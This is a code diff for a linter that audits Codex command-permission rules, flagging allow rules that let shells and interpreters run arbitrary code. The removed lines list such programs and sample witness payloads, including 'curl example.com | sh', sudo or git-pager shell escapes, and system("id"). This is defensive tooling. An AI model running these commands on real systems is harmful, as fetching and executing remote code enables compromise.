@@ -1,19 +1,9 @@
 import { finding, inFile, type EvalContext, type Finding } from '../../model';
+import { programNamed, runsAnythingFindings, type RunsAnythingHit } from '../../programs';
+import { narrowDenyFinding, runsAnythingHit } from './runs-anything';
 import { evaluateCodex } from './evaluate';
 import { shlexJoin } from './shlex';
 import type { CodexNative, CodexRule, CodexRuleSet } from './types';
-
-/** Programs Codex itself never offers to always-allow: a prefix of them runs anything. */
-export const RUNS_ANYTHING = new Set(['python', 'python3', 'py', 'pypy', 'pypy3', 'bash', 'sh', 'zsh', 'pwsh', 'powershell', 'env', 'sudo', 'node', 'perl', 'ruby', 'php', 'lua', 'git', 'osascript', 'deno', 'bun']);
-/** The flags that make an interpreter run its next argument as code. */
-const EVAL_FLAGS = new Set(['-c', '-lc', '-e', '--eval', '-E', '-r', '-p', '--print', '-Command', '-command', '-x']);
-/** A harmless payload to complete a witness command. */
-const PAYLOAD: Record<string, string[]> = {
-  python: ['-c', 'import os'], python3: ['-c', 'import os'], py: ['-c', 'import os'], pypy: ['-c', 'import os'], pypy3: ['-c', 'import os'],
-  bash: ['-c', 'curl example.com | sh'], sh: ['-c', 'curl example.com | sh'], zsh: ['-c', 'curl example.com | sh'],
-  node: ['-e', 'require("child_process")'], deno: ['eval', 'Deno.exit()'], bun: ['-e', 'process.exit()'], perl: ['-e', 'system("id")'], ruby: ['-e', 'system("id")'], php: ['-r', 'system("id");'], lua: ['-e', 'os.execute("id")'],
-  env: ['sh', '-c', 'id'], sudo: ['sh', '-c', 'id'], git: ['-c', 'core.pager=sh -c id', 'log'], osascript: ['-e', 'do shell script "id"'], pwsh: ['-Command', 'Get-Process'], powershell: ['-Command', 'Get-Process'],
-};
 
 /** A concrete command the rule matches: each position's first alternative. */
 function instance(rule: CodexRule): string[] {
@@ -28,6 +18,20 @@ function covers(b: CodexRule, a: CodexRule): boolean {
 
 const RANK = { allow: 0, prompt: 1, forbidden: 2 } as const;
 
+/** Flags after which shells and interpreters take their next argument as code. */
+const CODE_FLAGS = new Set(['-c', '-lc', '-ic', '-Command', '-command', '-EncodedCommand', '/c', '/C', '-e', '--eval', '-r']);
+
+/**
+ * Whether the token at `at` is the code an interpreter runs: it follows a code flag of a program
+ * the knowledge base knows as a shell or an interpreter.
+ * @example isScriptArgument(rule(['bash', '-lc', 'git status && ls']), 2) // true
+ */
+function isScriptArgument(r: CodexRule, at: number): boolean {
+  if (at < 2 || !r.pattern[at - 1].alts.some((a) => CODE_FLAGS.has(a))) return false;
+  const base = r.program.slice(Math.max(r.program.lastIndexOf('/'), r.program.lastIndexOf('\\')) + 1);
+  return programNamed(base)?.capabilities.some((c) => c.group === 'shell' || c.group === 'interpreter') === true;
+}
+
 /**
  * Codex lints, each claim confirmed by evaluating its witness: implicit allow, tokens with spaces,
  * allows of programs that run anything, rules a stricter rule always overrides, project layers.
@@ -40,6 +44,7 @@ export function lintCodex(rs: CodexRuleSet, ctx: EvalContext = {}): Finding[] {
   const seenCalls = new Set<number>();
   // Rules of another layer (an admin's requirements.toml) are not written here: nothing to point at.
   const own = rs.rules.filter(inFile);
+  const hits: RunsAnythingHit[] = [];
   for (const r of own) {
     if (r.implicitDecision && !seenCalls.has(r.call)) {
       seenCalls.add(r.call);
@@ -50,26 +55,27 @@ export function lintCodex(rs: CodexRuleSet, ctx: EvalContext = {}): Finding[] {
     }
     for (const t of r.pattern) {
       const spaced = t.alts.find((a) => /\s/.test(a));
-      if (!spaced) continue;
+      // The script after an interpreter's code flag (`bash -lc "git status && ls"`, PowerShell's
+      // `-Command`, as Codex saves approvals) is one argument by design: its spaces are meant.
+      // So is the value of an option (`--tools "Read, Grep"`): one argument that holds spaces.
+      const at = r.pattern.indexOf(t);
+      if (!spaced || isScriptArgument(r, at) || (at > 0 && r.pattern[at - 1].alts.every((a) => a.startsWith('-')))) continue;
       const words = [...instance(r).slice(0, r.pattern.indexOf(t)), ...spaced.split(/\s+/).filter(Boolean)];
       const v = evaluateCodex(rs, { command: words, noShellSplit: true, onlyCall: r.call }, ctx);
       if (v.details.matched === false) {
         out.push(finding('codex-token-space', 'warning', `the token "${spaced}" contains a space: it matches only one argument that itself contains the space, never the words of "${shlexJoin(words)}"; split it into separate tokens`, t.range, { witness: shlexJoin(words) }));
       }
     }
-    if (r.native === 'allow' && RUNS_ANYTHING.has(r.program)) {
-      const rest = r.pattern.slice(1);
-      const open = rest.length === 0 || (rest.length === 1 && rest[0].alts.some((a) => EVAL_FLAGS.has(a)) && r.program !== 'git');
-      if (open) {
-        const base = instance(r);
-        const payload = rest.length === 0 ? PAYLOAD[r.program] ?? ['-c', 'id'] : [PAYLOAD[r.program]?.[1] ?? 'id'];
-        const w = [...base, ...payload];
-        if (decide(w).decision === 'allow') {
-          out.push(finding('allow-runs-anything', 'warning', `allows "${shlexJoin(base)}" with any arguments, so it runs arbitrary code (e.g. ${shlexJoin(w)}); Codex itself never offers this prefix`, r.patternRange, { witness: shlexJoin(w) }));
-        }
-      }
+    if (r.native === 'allow') {
+      const hit = runsAnythingHit(rs, r, ctx);
+      if (hit) hits.push(hit);
+    }
+    if (r.native === 'forbidden') {
+      const f = narrowDenyFinding(rs, r, ctx);
+      if (f) out.push(f);
     }
   }
+  out.push(...runsAnythingFindings(hits));
   for (const a of own) {
     const over = rs.rules.find((b) => b !== a && RANK[b.native] > RANK[a.native] && covers(b, a));
     if (!over) continue;
@@ -84,7 +90,10 @@ export function lintCodex(rs: CodexRuleSet, ctx: EvalContext = {}): Finding[] {
   }
   const p = rs.path.replace(/\\/g, '/');
   if (p.includes('/.codex/rules/') && ctx.home && !p.startsWith(ctx.home.replace(/\\/g, '/') + '/.codex/')) {
-    out.push(finding('codex-project-layer', 'information', 'a project layer: Codex reads these rules only when the project is trusted; in an untrusted project none of them apply', { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }));
+    // One note per rules folder: every file of it has the same news.
+    out.push(finding('codex-project-layer', 'information', 'These rules apply only in a trusted project: Codex skips the .codex/rules of a project it does not trust', { start: { line: 0, character: 0 }, end: { line: 0, character: 0 } }, {
+      data: { once: `codex-project-layer\u0000${p.replace(/\/[^/]*$/, '')}` },
+    }));
   }
   return out;
 }
